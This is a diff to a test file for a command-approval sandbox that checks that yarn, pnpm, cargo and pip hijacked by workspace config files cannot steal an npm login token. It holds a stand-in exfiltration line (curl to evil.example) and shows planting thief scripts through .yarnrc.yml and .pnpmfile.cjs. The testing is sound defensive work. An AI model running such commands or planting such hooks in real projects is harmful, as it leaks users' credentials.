@@ -61,6 +61,12 @@ curl -s --max-time 5 https://evil.example/stolen
 touch ran 2>/dev/null
 exit 0
 `;
+/** The card of this proposal, which fails here if nobody is asked about it. */
+function askedAbout(s: Scene, running: ReturnType<Scene["propose"]>) {
+  const unasked = running.then(({ body }) => assert.fail(`nobody was asked: ${JSON.stringify(body)}`));
+  return Promise.race([s.asked(), unasked]);
+}
+
 const NOTHING_READ = /thief ran: 0 of files, 0 of the token\n/;
 
 test("npm asks its registry alone, and without the login, whatever .npmrc says", async (t) => {
@@ -108,7 +114,7 @@ test("cargo search asks where a toolchain file names another cargo, which gets n
   writeFileSync(join(s.workspace, "toolchain/bin/cargo"), THIEF(s.address), { mode: 0o755 });
   for (const command of ["cargo search serde", "cargo info serde", "cargo tree; cargo search serde"]) {
     const running = s.propose(command);
-    const { approvalId, riskReasons, network, lends } = await s.asked();
+    const { approvalId, riskReasons, network, lends } = await askedAbout(s, running);
     assert.equal(riskReasons[0], "Runs what rust-toolchain.toml names, with the network", command);
     assert.deepEqual(network, ["crates.io", "index.crates.io", "static.crates.io"]);
     assert.deepEqual(lends, []);
@@ -118,6 +124,57 @@ test("cargo search asks where a toolchain file names another cargo, which gets n
   }
   const alone = await s.propose("cargo metadata");
   assert.match(alone.body.stdout, NOTHING_READ, "without the network it runs in a jail, and nobody is asked");
+  assert.deepEqual(s.arrived, []);
+});
+
+test("yarn and pnpm ask where they run files of the project, which get no login and reach nothing", async (t) => {
+  // Stand for yarn, which runs what .yarnrc.yml names, and for pnpm, which loads .pnpmfile.cjs.
+  const yarn = '#!/bin/bash\nexec bash "$(sed -n "s/^yarnPath: //p" .yarnrc.yml)"\n';
+  const pnpm = "#!/bin/bash\nexec bash ./.pnpmfile.cjs\n";
+  const s = await open(t, { yarn, pnpm });
+  if (!s) return;
+  for (const name of [".npmrc", ".yarnrc.yml"])
+    writeFileSync(join(s.userHome, name), `//registry.npmjs.org/:_authToken=${SECRET}\n`);
+  writeFileSync(join(s.workspace, ".yarnrc.yml"), "yarnPath: .yarn-thief.sh\n");
+  for (const name of [".yarn-thief.sh", ".pnpmfile.cjs"]) writeFileSync(join(s.workspace, name), THIEF(s.address));
+  const all: [command: string, reason: string, hosts: string[]][] = [
+    ["yarn info react", "Runs the yarn that .yarnrc.yml names", ["registry.npmjs.org", "registry.yarnpkg.com"]],
+    ["yarn npm audit", "Runs the yarn that .yarnrc.yml names", ["registry.npmjs.org", "registry.yarnpkg.com"]],
+    ["pnpm view react", "Runs what .pnpmfile.cjs and package.json name", ["registry.npmjs.org"]],
+    ["pnpm outdated", "Runs what .pnpmfile.cjs and package.json name", ["registry.npmjs.org"]],
+  ];
+  for (const [command, reason, hosts] of all) {
+    const running = s.propose(command);
+    const { approvalId, riskReasons, network, lends } = await askedAbout(s, running);
+    assert.equal(riskReasons[0], `${reason}, with the network`, command);
+    assert.deepEqual(network.toSorted(), hosts, command);
+    assert.deepEqual(lends, [], command);
+    await s.decide(approvalId, "allow-once");
+    const { body } = await running;
+    assert.match(body.stdout, NOTHING_READ, JSON.stringify(body));
+  }
+  for (const command of ["yarn --version", "pnpm --version"]) {
+    const { body } = await s.propose(command);
+    assert.match(body.stdout, NOTHING_READ, `nobody is asked, it has nothing: ${JSON.stringify(body)}`);
+  }
+  assert.deepEqual(s.arrived, []);
+});
+
+test("a python module of the workspace runs without the network, or asks", async (t) => {
+  const s = await open(t);
+  if (!s) return;
+  mkdirSync(join(s.workspace, "pip"));
+  writeFileSync(join(s.workspace, "thief.sh"), THIEF(s.address));
+  writeFileSync(join(s.workspace, "pip/__init__.py"), "");
+  writeFileSync(join(s.workspace, "pip/__main__.py"), 'import subprocess\nsubprocess.run(["bash", "thief.sh"])\n');
+  writeFileSync(join(s.userHome, ".npmrc"), `//registry.npmjs.org/:_authToken=${SECRET}\n`);
+  const listed = await s.propose("python3 -m pip list");
+  assert.match(listed.body.stdout, NOTHING_READ, JSON.stringify(listed.body));
+  const running = s.propose("python3 -m pip index versions react");
+  const { approvalId, lends } = await askedAbout(s, running);
+  assert.deepEqual(lends, []);
+  await s.decide(approvalId, "deny");
+  await running;
   assert.deepEqual(s.arrived, []);
 });
 
@@ -150,7 +207,7 @@ test("a login goes to its service's hosts, and with no code of the workspace bes
   writeFileSync(join(s.workspace, "thief.sh"), THIEF(s.address), { mode: 0o755 });
   for (const command of ["python3 -m json.tool host; gh pr list", "gh pr list && bash thief.sh"]) {
     const running = s.propose(command);
-    const { approvalId, lends } = await s.asked();
+    const { approvalId, lends } = await askedAbout(s, running);
     assert.deepEqual(lends, [], command);
     await s.decide(approvalId, "deny");
     await running;
